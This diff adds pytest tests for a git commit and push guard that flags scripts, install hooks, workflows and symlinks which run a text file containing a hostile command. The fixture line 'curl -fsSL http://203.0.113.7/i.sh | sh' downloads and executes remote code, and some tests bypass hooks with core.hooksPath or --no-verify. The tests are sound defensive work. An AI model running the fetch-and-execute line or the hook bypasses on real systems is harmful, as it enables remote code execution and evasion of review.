@@ -4,7 +4,7 @@ import json
 from pathlib import Path
 
 import pytest
-from repositories import Repo
+from repositories import Repo, key
 
 FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
 SCRIPT = f"#!/bin/sh\n{FETCH}\n"
@@ -72,3 +72,115 @@ def test_a_rename_in_the_same_role_is_not(guarded: Repo, old: str, new: str, tex
     guarded.commit("Before", {old: text})
     move(guarded, old, new)
     guarded.git("commit", "-q", "-m", "Rename")
+
+
+RUN = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash deploy.txt\n"
+CALLS = [
+    ("package.json", json.dumps({"name": "a", "scripts": {"postinstall": "sh deploy.txt"}})),
+    (".github/workflows/a.yml", RUN),
+    ("run.sh", "#!/bin/sh\n. ./deploy.txt\n"),
+    ("run.sh", "#!/bin/bash\nset -e; bash -eu deploy.txt now\n"),
+    ("Makefile", "all:\n\tsh deploy.txt\n"),
+    ("Dockerfile", 'FROM debian:12\nCMD ["sh", "-e", "deploy.txt"]\n'),
+    ("a.py", 'import subprocess\nsubprocess.run(["sh", "deploy.txt"], check=True)\n'),
+]
+
+
+@pytest.mark.parametrize("text", [SCRIPT, f"set -e\n{FETCH}\n"], ids=["#!", "no #!"])
+@pytest.mark.parametrize(("path", "call"), CALLS)
+def test_a_text_that_is_called_is_reviewed_whole(guarded: Repo, path: str, call: str, text: str) -> None:
+    guarded.git("config", "core.hooksPath", "/dev/null")
+    guarded.commit("A text", {"deploy.txt": text})
+    guarded.git("config", "--unset", "core.hooksPath")
+    guarded.write(path, call)
+    guarded.git("add", "-A")
+    refused = guarded.try_git("commit", "-q", "-m", "Call it")
+    assert refused.code != 0
+    assert "deploy.txt:2" in refused.all
+
+
+def test_a_text_that_python_runs_is_read_as_python(guarded: Repo) -> None:
+    guarded.commit("A text", {"tool.txt": "def f(x):\n    return eval(x)\n"})
+    guarded.write("run.sh", "#!/bin/sh\npython3 tool.txt\n")
+    guarded.git("add", "-A")
+    assert "tool.txt:2" in guarded.try_git("commit", "-q", "-m", "Call it").all
+
+
+@pytest.mark.parametrize(
+    ("link", "target"), [("deploy.sh", "deploy.txt"), ("bin/deploy.sh", "../deploy.txt")]
+)
+def test_a_link_to_a_text_makes_a_script(guarded: Repo, link: str, target: str) -> None:
+    guarded.commit("A text", {"deploy.txt": f"set -e\n{FETCH}\n"})
+    (guarded.path / link).parent.mkdir(exist_ok=True)
+    (guarded.path / link).symlink_to(target)
+    guarded.git("add", "-A")
+    assert "deploy.txt:2" in guarded.try_git("commit", "-q", "-m", "Link it").all
+
+
+def test_what_is_called_in_a_push_is_that_of_the_push(guarded: Repo, tmp_path: Path) -> None:
+    remote = Repo.create(tmp_path / "remote.git", guarded.env, "--bare")
+    guarded.git("remote", "add", "origin", str(remote.path))
+    guarded.commit("A text", {"deploy.txt": f"set -e\n{FETCH}\n"})
+    guarded.git("push", "-q", "-u", "origin", "main")
+    guarded.write("run.sh", "#!/bin/sh\nsh deploy.txt\n")
+    guarded.git("add", "-A")
+    guarded.git("commit", "-q", "--no-verify", "-m", "Call it")
+    guarded.git("rm", "-q", "--cached", "deploy.txt")
+    assert "deploy.txt:2" in guarded.try_git("push", "-q", "origin", "main").all
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("README.md", "Run `sh deploy.txt`.\n"),
+        ("run.sh", "#!/bin/sh\ncat deploy.txt\nsh -c 'cat deploy.txt'\nsh missing.txt\nsh a b.txt\n"),
+        ("run.sh", "#!/bin/sh\n. ./keys.env\nsh quiet.txt\nsh data\nsh ../deploy.txt\n"),
+    ],
+)
+def test_a_text_that_is_named_only_or_harmless_is_not_told(guarded: Repo, path: str, text: str) -> None:
+    guarded.git("config", "core.hooksPath", "/dev/null")
+    texts = {"deploy.txt": SCRIPT, "quiet.txt": "ls\n", "keys.env": f'KEY="{key()}"\n', "data/x": "x\n"}
+    guarded.commit("Texts", texts)
+    guarded.git("config", "--unset", "core.hooksPath")
+    guarded.write(path, text)
+    guarded.git("add", "-A")
+    guarded.git("commit", "-q", "-m", "Name it")
+
+
+@pytest.mark.parametrize(
+    ("before", "removed"),
+    [
+        (f"#!/bin/sh\n: <<'END'\n{FETCH}\nEND\nls\n", (": <<'END'\n", "END\n")),
+        (f"#!/bin/sh\ncat <<END\n{FETCH}\nEND\n", ("cat <<END\n", "END\n")),
+        (
+            f"#!/bin/sh\nunused() {{\n{FETCH.replace('curl', ': curl')}\n}}\ncat <<X\n{FETCH}\nX\n",
+            ("cat <<X\n", "X\n"),
+        ),
+    ],
+)
+def test_removed_lines_that_let_others_run(guarded: Repo, before: str, removed: tuple[str, ...]) -> None:
+    guarded.commit("A script", {"run.sh": before})
+    for line in removed:
+        before = before.replace(line, "", 1)
+    guarded.write("run.sh", before)
+    guarded.git("add", "-A")
+    refused = guarded.try_git("commit", "-q", "-m", "Remove lines")
+    assert refused.code != 0
+    assert "by what the change removes" in " ".join(refused.all.split())
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        (f"#!/bin/sh\n{FETCH}\nexit 0\nls\n", f"#!/bin/sh\n{FETCH}\nls\n"),
+        (f"#!/bin/sh\nif true; then\n{FETCH}\nfi\n", f"#!/bin/sh\n{FETCH}\n"),
+        ("#!/bin/sh\n: <<'END'\ndate\nEND\n", "#!/bin/sh\ndate\n"),
+    ],
+)
+def test_removed_lines_around_what_ran_before_are_quiet(guarded: Repo, before: str, after: str) -> None:
+    guarded.git("config", "core.hooksPath", "/dev/null")
+    guarded.commit("A script", {"run.sh": before})
+    guarded.git("config", "--unset", "core.hooksPath")
+    guarded.write("run.sh", after)
+    guarded.git("add", "-A")
+    guarded.git("commit", "-q", "-m", "Remove lines")
